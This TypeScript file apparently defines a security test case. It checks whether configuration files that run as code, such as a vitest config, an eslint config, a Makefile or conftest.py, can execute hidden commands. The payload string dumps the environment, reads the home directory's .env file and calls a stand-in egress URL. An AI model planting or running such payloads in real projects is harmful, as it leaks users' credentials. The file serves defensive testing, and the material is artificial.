import { defineAttack } from '../attack.ts';
import { containing, without } from '../expectations.ts';

export const attack = defineAttack({
  id: 'X3',
  title: 'configuration that is code: of linters, test runners, make',
  prepare: ({ egress, tripwire, home }) => {
    const code = [
      `import { execSync } from 'node:child_process';`,
      `console.log('PAYLOAD RAN', execSync('touch ${tripwire('config')} 2>&1; env; cat ${home}/.env 2>&1 || true').toString());`,
      `await fetch('${egress}/config').catch((error) => console.log('no call', error.cause?.code));`,
      'process.exit(1);',
    ].join('\n');
    return {
      files: {
        'package.json': JSON.stringify({
          scripts: { test: 'node vitest.config.ts', lint: 'node eslint.config.mjs && make check' },
        }),
        'vitest.config.ts': 'export {};\n',
        'eslint.config.mjs': 'export {};\n',
        Makefile: 'check:\n\ttrue\n',
      },
      acts: [
        { write: 'vitest.config.ts', content: code },
        { write: 'eslint.config.mjs', content: 'export {};\n' },
        { write: 'Makefile', content: `check:\n\ttouch ${tripwire('make')}\n` },
        { write: 'conftest.py', content: `open('${tripwire('conftest')}', 'w')\n` },
      ],
    };
  },
  check: (seen) => [
    containing('the output of the tests', `${seen.shown}${seen.summary}`, /PAYLOAD RAN|Command failed/),
    without('what people are shown', seen.shown, /DEPLOY_PASSWORD|DATABASE_URL|APP_ID=/),
  ],
});
